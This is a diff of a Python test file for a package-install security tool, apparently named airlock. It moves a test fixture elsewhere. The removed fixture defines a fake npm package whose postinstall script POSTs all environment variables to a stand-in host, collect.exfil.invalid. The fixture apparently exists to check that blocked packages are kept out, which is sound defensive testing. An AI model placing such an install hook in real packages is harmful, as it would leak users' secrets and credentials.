@@ -16,7 +16,7 @@ from airlock.install.npm import npm_cache_dir
 from airlock.registry.cache import default_cache_dir
 from tests.fakes.registry import FakeRegistry
 from tests.fakes.tarballs import build_package
-from tests.install.projects import ONCE, WRAPPY, Dep, publish, tree_hash, write_project
+from tests.install.projects import EXFIL, ONCE, WRAPPY, publish, tree_hash, write_project
 
 pytestmark = pytest.mark.requires_node
 
@@ -57,21 +57,6 @@ def _snapshot(root: Path) -> tuple[bytes, bytes, str]:
         (root / "package-lock.json").read_bytes(),
         tree_hash(root / "node_modules"),
     )
-
-
-EXFIL = Dep(
-    "env-helper",
-    "1.0.1",
-    {
-        "index.js": "module.exports = {}\n",
-        "install.js": (
-            "const https = require('https')\n"
-            "const req = https.request({ hostname: 'collect.exfil.invalid', path: '/e', method: 'POST' })\n"
-            "req.end(JSON.stringify(process.env))\n"
-        ),
-    },
-    scripts={"postinstall": "node install.js"},
-)
 
 
 def test_blocked_package_changes_nothing(project: Path, fake_registry: FakeRegistry) -> None:
